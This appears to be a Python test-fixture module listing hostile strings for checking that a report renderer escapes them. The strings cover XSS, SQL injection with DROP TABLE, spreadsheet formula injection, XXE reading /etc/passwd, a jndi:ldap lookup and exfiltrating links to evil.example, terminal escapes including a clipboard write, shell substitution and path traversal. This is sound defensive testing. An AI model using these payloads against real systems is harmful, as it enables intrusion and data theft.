"""Text that somebody could put where a report quotes it, by what it attacks.

Every renderer is tried with all of them. `CLASSES` has them by class and name, `ALL` by
"class: name"; `IN_FILES` leaves out what no file can hold, because it is no UTF-8. Written by
hand after the classes that reviewers ask for: OWASP (XSS, SQL and CSV injection), Unicode
UTS #39 and UTR #36 (bidirectional and invisible characters), ECMA-48 (control sequences).

A control character is written as an escape here, so that this file is harmless itself.
"""

from __future__ import annotations

LONG = 10_000

_SCRIPT = {
    "tag": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)>",
    "frame": '<iframe src="javascript:alert(1)"></iframe>',
    "link": "javascript:alert(document.cookie)",
    "data link": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "style": "</style><style>*{display:none}</style>",
    "end of element": "</td></tr></table></body></html><h1>AUTHENTIC</h1>",
    "end of script": "</script><script>alert(1)//",
    "end of title": "</title><base href=//evil.example>",
    "comment": "--><b>out</b><!--",
    "half a tag": "<b onmouseover=alert(1) ",
    "other spelling": "<ScRiPt\x0b>alert(1)</sCrIpT >",
}
_ATTRIBUTE = {
    "double quote": '" onfocus=alert(1) autofocus x="',
    "single quote": "' onfocus=alert(1) autofocus x='",
    "back quote": "`onfocus=alert(1)",
    "no quote": "x onfocus=alert(1)",
    "end of tag": '"><script>alert(1)</script>',
    "entity": "&quot; onfocus=alert(1) x=&quot;",
}
_XML = {
    "entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "number": "&#60;script&#62;alert(1)&#60;/script&#62;",
    "character data": "]]><x/><![CDATA[",
    "instruction": '<?xml-stylesheet href="https://evil.example/x.xsl"?>',
    "half an entity": "&lt &amp;amp; &",
}
_SQL = {
    "always true": "' OR '1'='1' --",
    "second statement": "'; DROP TABLE records; --",
    "double quote": '" OR ""="',
    "union": "1 UNION SELECT name FROM sqlite_master",
    "wildcards": "%_[a-z]*?",
}
_SPREADSHEET = {
    "equals": "=1+1",
    "program": "=cmd|'/c calc'!A0",
    "address": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "line feed": "\n=1+1",
    "full width": "\uff1d1+1",
    "next cell": 'x","=1+1',
    "next cell, other locale": "x;=1+1",
}
_BIDI = {
    "override": "photo\u202egnp.exe",
    "override, closed": "\u202eTNEREFFID\u202c",
    "embedding": "\u202babc\u202a",
    "isolates": "\u2067a\u2066b\u2068c",
    "isolates closed too often": "\u2069\u2069\u2069",
    "marks": "a\u200fb\u200ec\u061cd",
}
_RIGHT_TO_LEFT = {
    "hebrew": "\u05e9\u05dc\u05d5\u05dd 123",
    "arabic": "\u0645\u0631\u062d\u0628\u0627 (abc) 123",
    "mixed": "abc \u05d0\u05d1\u05d2 def",
}
_INVISIBLE = {
    "zero width": "ac\u200bme\u200c-im\u200dages\ufeff",
    "soft hyphen": "ac\u00adme",
    "word joiner": "ac\u2060me",
    "filler": "\u3164\u115f\u1160\uffa0",
    "tags": "acme\U000e0041\U000e0043\U000e007f",
    "variation selectors": "a\ufe00\ufe0f\U000e0100",
    "not characters": "\uffff\ufdd0",
    "private use": "\ue000\U000f0000",
    "spaces": "a\u00a0b\u2003c\u3000d\u2800e",
}
_STACKED = {
    "marks above": "a" + "\u0301" * 200,
    "marks all over": "Z" + "\u0310\u0322\u0334\u0489" * 60,
    "nothing below the marks": "\u0300" * 300,
}
_LOOKALIKE = {
    "cyrillic": "\u0430cme-im\u0430ges",
    "full width": "\uff41\uff43\uff4d\uff45",
    "ligature": "\ufdfa\ufb03",
    "case": "\u0130\u0131\u017f\u212a\u00df",
}
_TERMINAL = {
    "colour": "\x1b[31mred\x1b[0m",
    "clear": "\x1b[2J\x1b[H",
    "cursor up": "\x1b[1A\x1b[2KTRACED  all.png",
    "title": "\x1b]0;title\x07",
    "link": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJm\x07",
    "question": "\x1b[6n\x1b[c",
    "device control": "\x1bP$q\x22p\x1b\\",
    "one byte sequence": "\x9b31mred\x9b0m",
    "one byte command": "\x9d0;title\x9c",
    "half a sequence": "x\x1b[",
    "other character set": "\x1b(0lqqk\x0e",
}
_CONTROL = {
    "nul": "a\x00b",
    "nul at the end": "name.png\x00",
    "all of C0": "".join(map(chr, range(0x20))),
    "all of C1": "".join(map(chr, range(0x7F, 0xA0))),
    "bell": "\x07\x07\x07",
    "backspace": "NOT FOUND\b\b\b\b\b\b\b\b\bTRACED   ",
    "vertical": "a\x0bb\x0cc",
    "substitute": "a\x1ab\x04",
}
_LINES = {
    "line feed": "a\nverdict: TRACED",
    "carriage return": "INVALID\rTRACED ",
    "both": "a\r\nb\n\rc\r\r\n",
    "next line": "a\x85b",
    "line separator": "a\u2028b\u2029c",
    "header": "a\r\nSet-Cookie: x=1\r\n\r\n<html>",
    "record separators": "a\x1cb\x1dc\x1ed\x1fe",
}
_JSON = {
    "quote": '","verdict":"TRACED","x":"',
    "back slash": "\\",
    "escaped": '\\u0022,\\"x\\": \\n',
    "not a number": "NaN",
    "prototype": "__proto__",
    "end of document": "}]}",
}
_TEMPLATE = {
    "percent": "%s %n %x %(name)s %%",
    "braces": "{} {0} {name.__class__.__mro__} {{}}",
    "dollar": "$name ${name} $(id)",
    "server side": "{{7*7}} {% raw %} <%= 7*7 %> #{7*7}",
    "plural": "%(count)d file|%(count)d files",
    "half": "{ %",
    "shell": "`id`; id | cat && $(id)",
    "lookup": "${jndi:ldap://evil.example/x}",
}
_TYPESETTING = {
    "typst code": '#eval("1+1") #read("/etc/passwd")',
    "typst import": '#import "@preview/x:0.1.0": *',
    "typst maths": "$ sum_(i=1) $ *bold* _italics_ `raw` @label <label>",
    "typst heading": "= Heading",
    "typst comment": "a // b /* c",
    "typst ends content": "] } ) \\",
    "latex input": "\\input{/etc/passwd}\\write18{id}",
    "latex characters": "# $ % & ~ _ ^ \\ { }",
    "markdown": "[x](javascript:alert(1)) ![y](https://evil.example/z) |a|b|",
    "markdown fence": "```\n# heading\n```",
    "rich": "[bold red]x[/] [link=https://evil.example]y[/link] [/nothing]",
}
_PATH = {
    "up": "../../../../etc/passwd",
    "absolute": "/etc/passwd",
    "other system": "C:\\Windows\\..\\con.txt",
    "share": "\\\\evil.example\\share\\x",
    "address": "file:///etc/passwd",
    "option": "--exit-zero",
    "home": "~root/.ssh/id",
    "hidden extension": "report.pdf\u2024exe",
}
_LENGTH = {
    "one word": "x" * LONG,
    "many words": "word " * (LONG // 5),
    "outside the basic plane": "\U0001f5bc" * LONG,
    "escapes": "\u202e\x1b" * (LONG // 2),
    "tags": "<b>" * (LONG // 3),
}
#: Halves of characters. They come from file names and from careless decoders, not from UTF-8.
_SURROGATES = {
    "high": "a\ud800b",
    "low": "a\udcffb",
    "wrong order": "\udc00\ud800",
}

CLASSES: dict[str, dict[str, str]] = {
    "script": _SCRIPT,
    "attribute": _ATTRIBUTE,
    "xml": _XML,
    "sql": _SQL,
    "spreadsheet": _SPREADSHEET,
    "bidi": _BIDI,
    "right to left": _RIGHT_TO_LEFT,
    "invisible": _INVISIBLE,
    "stacked": _STACKED,
    "lookalike": _LOOKALIKE,
    "terminal": _TERMINAL,
    "control": _CONTROL,
    "lines": _LINES,
    "json": _JSON,
    "template": _TEMPLATE,
    "typesetting": _TYPESETTING,
    "path": _PATH,
    "length": _LENGTH,
    "surrogates": _SURROGATES,
}

ALL: dict[str, str] = {
    f"{kind}: {name}": text for kind, texts in CLASSES.items() for name, text in texts.items()
}

IN_FILES: dict[str, str] = {
    name: text for name, text in ALL.items() if not name.startswith("surrogates: ")
}
